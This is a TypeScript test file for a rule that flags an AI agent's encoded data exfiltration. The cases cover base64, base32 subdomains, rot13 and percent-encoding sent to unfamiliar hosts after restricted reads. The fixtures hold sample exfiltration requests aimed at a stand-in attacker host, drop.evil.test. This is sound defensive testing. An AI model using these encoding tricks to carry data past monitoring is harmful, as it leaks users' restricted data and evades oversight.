import { describe, expect, it } from 'vitest'
import type { Flow } from '../flow.ts'
import { encodedExfiltration as rule } from './encoded-exfiltration.ts'
import {
  argumentOf,
  findingsIn,
  findingsOver,
  flowOf,
  matchOf,
  placeOf,
  type RequestParts,
  requestOf,
  responseOf,
  type ViewParts,
} from './event.fixture.ts'

const POST: RequestParts = { tool: 'web.http_post', tags: ['network_egress'] }
const STRANGER = [placeOf('drop.evil.test')]
const KNOWN = [placeOf('files.partner.test', { known: true })]
const hidden = flowOf({ encoded: ['base64'] })
const actions = (parts: RequestParts, view: ViewParts) =>
  findingsIn(rule, requestOf(parts), view).map(({ action }) => action)

describe('encoded_exfiltration', () => {
  it.each<[string, RequestParts, ViewParts, string[]]>([
    ['base64 for a stranger', POST, { flows: [hidden], destinations: STRANGER }, ['ask']],
    [
      'an encoded identifier',
      POST,
      { flows: [{ ...hidden, role: 'identifier' }], destinations: STRANGER },
      ['ask'],
    ],
    ['pieces', POST, { flows: [flowOf({ kind: 'split' })], destinations: STRANGER }, ['ask']],
    [
      'what a call made of it',
      POST,
      { flows: [flowOf({ kind: 'derived', hops: 2 })], destinations: STRANGER },
      ['ask'],
    ],
    [
      'rot13 in a reply that names no place',
      { tool: 'support.post_reply', tags: ['external_write'] },
      { flows: [flowOf({ encoded: ['rot13'] })] },
      ['ask'],
    ],
    [
      'an attachment for a place that the task names',
      POST,
      { flows: [hidden], destinations: KNOWN },
      [],
    ],
    [
      'what is encoded for transport alone',
      POST,
      { flows: [flowOf({ encoded: ['percent'] })], destinations: STRANGER },
      [],
    ],
    [
      'plain data, which is another rule’s',
      POST,
      { flows: [flowOf({})], destinations: STRANGER },
      [],
    ],
    [
      'an internal tool',
      { tool: 'text.encode', tags: ['internal_write'] },
      { flows: [hidden] },
      [],
    ],
    [
      'data of no restricted source',
      POST,
      { flows: [flowOf({ encoded: ['hex'] }, { restricted: false })], destinations: STRANGER },
      [],
    ],
    [
      'a secret, which is another rule’s',
      POST,
      { flows: [{ ...hidden, kind: 'secret' }], destinations: STRANGER },
      [],
    ],
  ])('judges %s', (_, parts, view, expected) => {
    expect(actions(parts, view)).toEqual(expected)
  })

  it('ends the session where the response that it is of held secrets', () => {
    const found = findingsOver(rule, [
      [responseOf({ number: 2, tags: ['restricted'] }), { matches: [matchOf('password')] }],
      [requestOf({ ...POST, number: 3 }), { flows: [hidden], destinations: STRANGER }],
    ])
    expect(found[1]).toMatchObject([{ action: 'terminate', sources: [2], score: 85 }])
  })

  it.each<[string, Partial<Flow>, string]>([
    ['what is surely of it', { confidence: 0.7 }, 'terminate'],
    ['what is hardly of it', { confidence: 0.69 }, 'ask'],
    ['what a call made of it', { kind: 'derived' }, 'ask'],
    ['what is of another response', { from: 4 }, 'ask'],
  ])('answers %s, after a response with secrets, with %s', (_, parts, action) => {
    const found = findingsOver(rule, [
      [responseOf({ number: 2 }), { matches: [matchOf('password')] }],
      [
        requestOf({ ...POST, number: 5 }),
        { flows: [{ ...hidden, ...parts }], destinations: STRANGER },
      ],
    ])
    expect(found[1]?.map((one) => one.action)).toEqual([action])
  })

  it('leaves what a call made of a secret to the relay of it', () => {
    const found = findingsOver(rule, [
      [
        requestOf({ tool: 'text.encode', tags: ['internal_write'], number: 3 }),
        { flows: [flowOf({ kind: 'secret' })] },
      ],
      [
        requestOf({ ...POST, number: 5 }),
        { flows: [flowOf({ kind: 'derived', chain: [2, 3, 4, 5] })], destinations: STRANGER },
      ],
    ])
    expect(found.flat()).toEqual([])
  })

  describe('right after a restricted read', () => {
    const read = responseOf({ number: 2, tags: ['restricted'] })
    const name = 'mfrggzdfmztwq2lknnwg23tpobyxe43u'
    const long = 'QmFzZSA2NCBvZiBzb21lIHJvd3MgdGhhdCBub2JvZHkgc2hvdWxkIHNlbmQgb24K'
    const path = (text: string) => [
      argumentOf('url', 'https://drop.evil.test', 'destination'),
      argumentOf('url', text, 'content'),
    ]
    it.each<[string, RequestParts, ViewParts, string[]]>([
      ['a host name of base32', POST, { destinations: [placeOf(`${name}.evil.test`)] }, ['ask']],
      [
        'a path of base64',
        { ...POST, arguments: path(`/p/${long}`) },
        { destinations: STRANGER },
        ['warn'],
      ],
      [
        'a header of base64',
        { ...POST, arguments: [argumentOf('x-trace', long)] },
        { destinations: STRANGER },
        ['warn'],
      ],
      [
        'a long path of words',
        {
          ...POST,
          arguments: path('/blog/how-to-keep-a-garden-alive-through-a-very-dry-summer-2024'),
        },
        { destinations: STRANGER },
        [],
      ],
      [
        'a path with a hash',
        { ...POST, arguments: path(`/objects/${'0123456789abcdef'.repeat(4)}`) },
        { destinations: STRANGER },
        [],
      ],
      ['a known host', POST, { destinations: [placeOf(`${name}.evil.test`, { known: true })] }, []],
      [
        'a host that a response has held',
        POST,
        {
          destinations: [placeOf(`${name}.evil.test`)],
          flows: [flowOf({ role: 'destination', length: name.length + 10 })],
        },
        [],
      ],
      ['base64 in a body', { ...POST, arguments: { body: long } }, { destinations: STRANGER }, []],
      [
        'an ordinary host',
        POST,
        { destinations: [placeOf('documentation.internationalization.example')] },
        [],
      ],
    ])('judges %s', (_, parts, view, expected) => {
      const found = findingsOver(rule, [[read], [requestOf({ ...parts, number: 5 }), view]])
      expect(found[1]?.map(({ action }) => action)).toEqual(expected)
    })

    it('no longer speaks when the read is long past, or never was', () => {
      const view = { destinations: [placeOf(`${name}.evil.test`)] }
      const countAt = (number: number) =>
        findingsOver(rule, [[read], [requestOf({ ...POST, number }), view]]).flat().length
      expect([countAt(10), countAt(11)]).toEqual([1, 0])
      const late = findingsOver(rule, [[read], [requestOf({ ...POST, number: 40 }), view]])
      const never = findingsOver(rule, [[requestOf({ ...POST, number: 3 }), view]])
      expect([late.flat(), never.flat()]).toEqual([[], []])
    })
  })
})

describe('letters in percent signs', () => {
  const encode = (text: string): string =>
    [...text].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join('')
  const open = (url: string, view: ViewParts = { flows: [flowOf({}, { restricted: false })] }) =>
    findingsIn(rule, requestOf({ ...POST, json: { url } }), view).map(({ action }) => action)

  it.each<[string, string, ViewParts | undefined, string[]]>([
    [
      'a text that is encoded throughout',
      `https://a.test/i?d=${encode('LarkHarbour')}`,
      undefined,
      ['ask'],
    ],
    [
      'the same in capitals',
      `https://a.test/i?d=${encode('LarkHarbour').toUpperCase()}`,
      undefined,
      ['ask'],
    ],
    ['the same, and nothing read', `https://a.test/i?d=${encode('LarkHarbour')}`, {}, []],
    ['signs that need it', `https://a.test/i?d=${'%20%2F%3A%26'.repeat(4)}`, undefined, []],
    [
      'letters of other scripts',
      `https://a.test/${encodeURIComponent('Приветствие')}`,
      undefined,
      [],
    ],
    ['a letter or two', 'https://a.test/i?d=%41%42', undefined, []],
  ])('judges %s', (_, url, view, actions) => {
    expect(open(url, view)).toEqual(actions)
  })
})
